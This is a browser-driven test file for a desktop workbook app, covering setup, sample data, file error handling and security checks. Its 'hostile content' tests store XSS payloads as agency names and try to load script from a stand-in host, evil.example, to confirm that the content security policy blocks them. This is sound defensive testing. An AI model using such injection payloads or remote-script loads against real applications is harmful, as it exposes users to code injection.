/** The desktop shell in Chromium, as a user drives it, over real workbook files. */
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import { APPLICATION_ID } from '../../electron/workbook/schema';
import { Workbook } from '../../electron/workbook/workbook';
import { createSampleWorkbook } from '../../electron/workbook/sample';
import { sha256 } from '../helpers';
import type { Harness } from './harness';
import { useBrowser } from './lifecycle';

const browser = useBrowser();
let h: Harness | null = null;

describe('first run and the start screen', () => {
  it('asks for the author name, then shows New, Open, Open Sample and recent files', async () => {
    h = await browser.start({ author: null });
    const page = h.page;
    await page.getByRole('heading', { name: 'Welcome to Total Place Workbook' }).waitFor();
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByText('Enter your name').first().waitFor();
    await page.getByLabel('Your name').fill('Priya Shah');
    await h.screenshot('01-first-run');
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByRole('heading', { name: 'Total Place Workbook' }).waitFor();
    expect(h.settings.get().author).toBe('Priya Shah');
    for (const name of ['New Pilot Workbook…', 'Open…', 'Open Sample Pilot']) await expect(page.getByRole('button', { name }).isVisible()).resolves.toBe(true);
    await expect(page.title()).resolves.toBe('Total Place Workbook');
    await h.screenshot('02-start-screen');
  });
});

describe('a new pilot workbook', () => {
  it('is created where the user chooses, with our application id and the pilot name, and its details survive a reload', async () => {
    h = await browser.start();
    const page = h.page;
    await page.getByRole('button', { name: 'New Pilot Workbook…' }).click();
    await page.getByLabel('Pilot name').fill('Worcestershire pilot');
    const file = h.file('worcs.totalplace');
    h.answerDialog(file);
    await page.getByRole('button', { name: 'Choose where to save…' }).click();
    await page.getByRole('tab', { name: /Agencies/ }).waitFor();
    await expect(page.title()).resolves.toBe('Worcestershire pilot — worcs.totalplace — Total Place Workbook');
    const db = new Database(file, { readonly: true });
    expect(db.pragma('application_id', { simple: true })).toBe(APPLICATION_ID);
    expect(db.prepare('SELECT name FROM pilot').get()).toEqual({ name: 'Worcestershire pilot' });
    db.close();
    await page.getByRole('heading', { name: 'No agencies yet' }).waitFor();
    await h.screenshot('03-new-workbook-empty');

    await page.getByRole('tab', { name: 'Pilot' }).click();
    await page.getByLabel('Place', { exact: true }).fill('Worcestershire');
    await page.getByLabel('Population').fill('557,400');
    await page.getByLabel('Year counted').fill('2008/09');
    await page.getByLabel('Lead body').fill('Worcestershire County Council');
    await page.getByLabel('Lead body').press('Tab');
    await page.getByLabel('Region').selectOption({ label: 'West Midlands' });
    await page.getByText(/Saved at/).waitFor();
    await page.getByLabel('Population').fill('lots');
    await page.getByLabel('Population').press('Tab');
    await page.getByText('Enter the population as a whole number').waitFor();
    await h.screenshot('04-pilot-details');

    await page.reload();
    await page.getByRole('tab', { name: 'Pilot' }).click();
    await expect(page.getByLabel('Place', { exact: true }).inputValue()).resolves.toBe('Worcestershire');
    await expect(page.getByLabel('Population').inputValue()).resolves.toBe('557,400');
    await expect(page.getByLabel('Year counted').inputValue()).resolves.toBe('2008-09');
    await expect(page.getByLabel('Region').inputValue()).resolves.toBe('west_midlands');
    const wb = Workbook.open(file, { author: 'x', readOnly: true });
    expect(wb.pilot.get()).toMatchObject({ place: 'Worcestershire', population: 557_400, countYear: 2008, leadBody: 'Worcestershire County Council', region: 'west_midlands' });
    wb.close();
  });

  it('renaming the pilot renames the window', async () => {
    h = await browser.start();
    h.answerDialog(h.file('kent.totalplace'));
    await h.page.getByRole('button', { name: 'New Pilot Workbook…' }).click();
    await h.page.getByLabel('Pilot name').fill('Kent');
    await h.page.getByLabel('Pilot name').press('Enter');
    await h.page.getByRole('tab', { name: 'Pilot' }).click();
    await h.page.getByLabel('Pilot name').fill('Kent and Medway pilot');
    await h.page.getByLabel('Pilot name').press('Enter');
    await h.page.waitForFunction(() => document.title.startsWith('Kent and Medway pilot — kent.totalplace'));
  });
});

describe('the sample pilot', () => {
  it('opens with its agencies, spend, themes, barriers and totals', async () => {
    h = await browser.start();
    const page = h.page;
    await page.getByRole('button', { name: 'Open Sample Pilot' }).click();
    await page.getByRole('gridcell', { name: 'Birmingham City Council' }).waitFor();
    await expect(page.title()).resolves.toMatch(/^Sample pilot: Birmingham \(illustrative\) — Sample pilot \(illustrative\)\.totalplace — Total Place Workbook$/);
    await expect(page.getByTestId('total-spend').textContent()).resolves.toBe('£7,300.0m');
    await expect(page.getByRole('tab', { name: /Agencies/ }).textContent()).resolves.toBe('Agencies11');
    await expect(page.getByRole('tab', { name: /Spend/ }).textContent()).resolves.toBe('Spend36');
    await h.screenshot('05-sample-agencies');
    await h.command('view:spend');
    await page.getByRole('gridcell', { name: 'Acute hospital services' }).waitFor();
    await page.getByText('36 lines (gross)').waitFor();
    await h.screenshot('06-sample-spend');
    await h.command('view:themes');
    await page.getByRole('gridcell', { name: 'Drugs and alcohol', exact: true }).waitFor();
    await h.command('view:barriers');
    await page.getByRole('gridcell', { name: 'Savings from early intervention land with other bodies' }).waitFor();
    await h.screenshot('07-sample-barriers');
    await h.command('guide');
    await page.getByRole('dialog', { name: 'Using Total Place Workbook' }).waitFor();
    await h.screenshot('08-guide');
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog').count()).resolves.toBe(0);
  });

  it('saves a copy where the user chooses, and says so', async () => {
    h = await browser.start();
    await h.page.getByRole('button', { name: 'Open Sample Pilot' }).click();
    await h.page.getByRole('tab', { name: /Agencies/ }).waitFor();
    const copy = h.file('for partners.totalplace');
    h.answerDialog(copy);
    await h.command('saveCopy');
    await h.page.getByText('Saved a copy as “for partners.totalplace”').waitFor();
    const wb = Workbook.open(copy, { author: 'x', readOnly: true });
    expect(wb.info().copiedFrom).not.toBeNull();
    wb.close();
    // Cancelling a dialog is not an error.
    h.answerDialog(null);
    await h.command('saveCopy');
    await expect(h.page.getByRole('alert').count()).resolves.toBe(0);
  });
});

describe('files that cannot be opened', () => {
  it('each says what is wrong and what to do, and is not changed', async () => {
    h = await browser.start();
    const page = h.page;
    const good = h.file('good.totalplace');
    Workbook.create(good, { author: 'x', pilot: { name: 'Good' } }).close();
    const cases: [string, (f: string) => void, RegExp][] = [
      ['empty.totalplace', (f) => fs.writeFileSync(f, ''), /This file is empty[\s\S]*attach it again/],
      ['notes.totalplace', (f) => fs.writeFileSync(f, 'Agency,Amount\n'.repeat(50)), /not a Total Place workbook[\s\S]*not a database file at all/],
      ['other.totalplace', (f) => { const d = new Database(f); d.exec('CREATE TABLE t (x)'); d.close(); }, /database made by another program/],
      ['cut.totalplace', (f) => fs.writeFileSync(f, fs.readFileSync(good).subarray(0, 8192)), /This file is damaged[\s\S]*shorter than it should be/],
      ['future.totalplace', (f) => { fs.copyFileSync(good, f); const d = new Database(f); d.pragma('user_version = 7'); d.close(); }, /needs a newer version[\s\S]*file format 7; this version reads up to 2\)\. Install the newer version/],
    ];
    for (const [name, make, words] of cases) {
      const f = h.file(name);
      make(f);
      const before = sha256(f);
      h.answerDialog(f);
      await page.getByRole('button', { name: 'Open…' }).click();
      const alert = page.getByRole('alert');
      await alert.waitFor();
      await expect(alert.textContent()).resolves.toMatch(words);
      await h.screenshot(`09-bad-file-${path.basename(name, '.totalplace')}`);
      expect(sha256(f), `${name} unchanged`).toBe(before);
      await page.getByRole('button', { name: 'Dismiss this message' }).click();
    }
  });

  it('a read-only file opens read-only, says so in the title, and refuses edits with a clear message', async () => {
    h = await browser.start();
    const file = h.file('readonly.totalplace');
    createSampleWorkbook(file, 'x').close();
    fs.chmodSync(file, 0o444);
    const before = sha256(file);
    h.answerDialog(file);
    await h.page.getByRole('button', { name: 'Open…' }).click();
    await h.page.getByText('This file can’t be written to.').waitFor();
    await expect(h.page.title()).resolves.toContain('readonly.totalplace (read-only) — Total Place Workbook');
    await h.page.getByText('Read-only: nothing can be changed').waitFor();
    await h.command('view:pilot');
    await h.page.getByText('This workbook is open read-only, so these details can’t be changed here.').waitFor();
    await expect(h.page.getByLabel('Pilot name').getAttribute('readonly')).resolves.not.toBeNull();
    // Even a change that bypasses the form is refused by the store, with words.
    const r = await h.page.evaluate(() => window.totalPlace!.call['agency.create']({ rows: [{ name: 'Sneaky' }] }));
    expect(r).toMatchObject({ ok: false, error: { code: 'read-only', message: expect.stringContaining('Save a copy somewhere you can write') } });
    await h.screenshot('10-read-only');
    expect(sha256(file)).toBe(before);
  });

  it('a file open elsewhere offers read-only or open anyway', async () => {
    h = await browser.start();
    const file = h.file('shared.totalplace');
    createSampleWorkbook(file, 'x').close();
    fs.writeFileSync(path.join(h.dir, '.~lock.shared.totalplace#'), JSON.stringify({ author: 'Sam Patel', host: 'DCC-LT-0193', pid: 999999, since: '2026-11-24T09:00:00.000Z', app: 'Total Place Workbook' }));
    h.answerDialog(file);
    await h.page.getByRole('button', { name: 'Open…' }).click();
    const dialog = h.page.getByRole('dialog', { name: 'Someone else has this file open' });
    await dialog.waitFor();
    await expect(dialog.textContent()).resolves.toMatch(/Sam Patel on DCC-LT-0193 since 24 November 2026/);
    await h.screenshot('11-locked');
    await dialog.getByRole('button', { name: 'Open read-only' }).click();
    await h.page.waitForFunction(() => document.title.includes('(read-only)'));
  });
});

describe('hostile content', () => {
  it('an agency named like HTML shows as text and runs nothing', async () => {
    h = await browser.start();
    const file = h.file('hostile.totalplace');
    const wb = Workbook.create(file, { author: 'x', pilot: { name: '<b>Bold</b> pilot' } });
    const hostile = '<img src=x onerror=alert(1)>';
    wb.agencies.create([{ name: hostile }, { name: '<script>window.pwned=1</script>' }]);
    wb.close();
    let dialogs = 0;
    h.page.on('dialog', (d) => {
      dialogs++;
      void d.dismiss();
    });
    h.answerDialog(file);
    await h.page.getByRole('button', { name: 'Open…' }).click();
    await h.page.getByRole('gridcell', { name: hostile }).waitFor();
    await expect(h.page.locator('img[src="x"]').count()).resolves.toBe(0);
    await expect(h.page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).resolves.toBeUndefined();
    await expect(h.page.title()).resolves.toBe('<b>Bold</b> pilot — hostile.totalplace — Total Place Workbook');
    expect(dialogs).toBe(0);
    await h.screenshot('12-hostile-names');
  });

  it('the page runs under the strict content security policy and Trusted Types: no inline or remote script runs, no string becomes HTML', async () => {
    h = await browser.start();
    const result = await h.page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
      const refused = (f: () => void) => {
        try {
          f();
          return 'allowed';
        } catch (e) {
          return (e as Error).name;
        }
      };
      const tt = (window as unknown as { trustedTypes: { createPolicy(n: string, r: object): unknown } }).trustedTypes;
      const div = document.createElement('div');
      const out = {
        // Trusted Types refuse a string for a script's text or source, and for HTML.
        inline: refused(() => {
          const s = document.createElement('script');
          s.textContent = 'window.inlineRan = 1';
          document.head.appendChild(s);
        }),
        remote: refused(() => {
          const s = document.createElement('script');
          s.src = 'https://evil.example/x.js';
          document.head.appendChild(s);
        }),
        html: refused(() => {
          div.innerHTML = '<img src=x onerror="window.inlineRan = 2">';
        }),
        handler: refused(() => div.setAttribute('onclick', 'window.inlineRan = 3')),
        // The default policy lets through the empty string only (ECharts clears its elements so).
        clear: refused(() => {
          div.innerHTML = '';
        }),
        // No other policy can be made, nor the app's made again.
        newPolicy: refused(() => tt.createPolicy('evil', { createHTML: (s: string) => s })),
        againPolicy: refused(() => tt.createPolicy('report-preview', { createHTML: (s: string) => s })),
      };
      await new Promise((r) => setTimeout(r, 200));
      return { ...out, seen, ran: (window as unknown as { inlineRan?: number }).inlineRan ?? null };
    });
    expect(result).toMatchObject({ inline: 'TypeError', remote: 'TypeError', html: 'TypeError', handler: 'TypeError', clear: 'allowed', newPolicy: 'TypeError', againPolicy: 'TypeError', ran: null });
    expect(result.seen).toEqual(expect.arrayContaining(['require-trusted-types-for', 'trusted-types']));
    // A module from elsewhere (no string sink involved): refused by the CSP's script-src. (A string, so the
    // test runner leaves the page's import() alone.)
    const imported = await h.page.evaluate(`new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective));
      import('https://evil.example/m.js').then(() => resolve('loaded'), () => undefined);
    })`);
    expect(imported).toBe('script-src-elem');
    h.consoleErrors.length = 0; // Chromium logs each refusal; those are the point of this test
  });
});
